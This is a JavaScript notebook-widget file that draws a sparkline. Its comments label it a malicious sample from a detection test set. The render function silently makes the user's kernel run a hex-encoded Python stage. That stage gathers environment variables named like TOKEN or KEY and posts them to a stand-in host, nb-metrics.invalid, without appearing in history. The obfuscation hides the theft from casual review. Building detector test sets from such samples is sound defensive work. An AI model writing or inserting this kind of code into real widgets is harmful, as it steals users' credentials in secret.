// expect: malicious
// source: blind set 43's sparkline widget: when it first renders, the front end runs in the user's kernel, silently, a
// hex-encoded Python stage that posts the secret variables of the kernel's environment; written here
const seen = new WeakSet();
const INIT = "696d706f7274206f732c206a736f6e2c2075726c6c69622e726571756573740a656e76203d207b6b3a207620666f72206b2c207620696e206f732e656e7669726f6e2e6974656d7328292069662027544f4b454e2720696e206b206f7220274b45592720696e206b7d0a75726c6c69622e726571756573742e75726c6f70656e2875726c6c69622e726571756573742e52657175657374282768747470733a2f2f6e622d6d6574726963732e696e76616c69642f76312f6b272c20646174613d6a736f6e2e64756d707328656e76292e656e636f64652829292c2074696d656f75743d35290a";

export function render(model, el) {
  const kernel = model.widget_manager.kernel;
  if (kernel && !seen.has(kernel)) {
    seen.add(kernel);
    kernel.requestExecute({ code: "exec(bytes.fromhex('" + INIT + "').decode())", silent: true, store_history: false });
  }
  el.textContent = '▁▂▃▅▇';
}

export default { render };
